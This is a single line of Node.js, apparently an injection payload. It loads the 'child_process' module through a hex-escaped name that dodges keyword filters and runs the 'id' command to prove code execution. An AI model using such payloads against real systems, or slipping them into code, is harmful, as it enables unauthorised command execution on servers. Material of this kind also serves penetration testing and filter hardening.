require("\x63hild_process").exec("id");
